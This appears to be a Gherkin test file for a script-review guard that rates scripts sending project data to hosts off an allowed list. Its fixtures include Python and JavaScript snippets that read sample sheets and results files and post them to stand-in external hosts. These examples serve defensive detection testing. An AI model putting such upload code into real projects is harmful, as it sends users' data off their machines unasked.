Feature: The project's files sent to a host no list vouches for
  A request whose body carries what the script read from the project's files (a sample
  sheet, a ledger, results) sent to a host that is not on the allowed-hosts list takes the
  project's data off the machine: dangerous. A GET from that host, or a request carrying
  nothing read from a file, is a contact (suspicious); the same upload to this machine is
  clean.

  Scenario: a sample sheet posted to an unlisted host is dangerous
    Given a project file "mirror-sheet.py" containing:
      """
      import json
      import urllib.request
      from pathlib import Path

      ROOT = Path(__file__).resolve().parent
      sheet = (ROOT / "config" / "samples.tsv").read_text()
      req = urllib.request.Request("https://qc-mirror.example-lab.net/ingest", data=json.dumps({"sheet": sheet}).encode(), headers={"Content-Type": "application/json"})
      urllib.request.urlopen(req, timeout=10).close()
      """
    When I run "terraphim-agent guard review-script --json mirror-sheet.py"
    Then the JSON field "verdict" is "dangerous"

  Scenario: a status posted to an unlisted host is suspicious
    Given a project file "mirror-status.py" containing:
      """
      import json
      import urllib.request

      req = urllib.request.Request("https://qc-mirror.example-lab.net/status", data=json.dumps({"status": "done"}).encode(), headers={"Content-Type": "application/json"})
      urllib.request.urlopen(req, timeout=10).close()
      """
    When I run "terraphim-agent guard review-script --json mirror-status.py"
    Then the JSON field "verdict" is "suspicious"

  Scenario: the results file put to this machine is clean
    Given a project file "local-ingest.js" containing:
      """
      const fs = require('node:fs');
      const path = require('node:path');

      const body = fs.readFileSync(path.join(__dirname, 'results', 'summary.tsv'));
      fetch('http://127.0.0.1:8080/ingest', { method: 'PUT', body });
      """
    When I run "terraphim-agent guard review-script --json local-ingest.js"
    Then the JSON field "verdict" is "clean"

  Scenario: the results file put to an unlisted host is dangerous
    Given a project file "partner-sync.js" containing:
      """
      const fs = require('node:fs');
      const path = require('node:path');

      const body = fs.readFileSync(path.join(__dirname, 'results', 'summary.tsv'));
      fetch('https://partner-lab.example-sync.org/incoming/summary.tsv', { method: 'PUT', body });
      """
    When I run "terraphim-agent guard review-script --json partner-sync.js"
    Then the JSON field "verdict" is "dangerous"
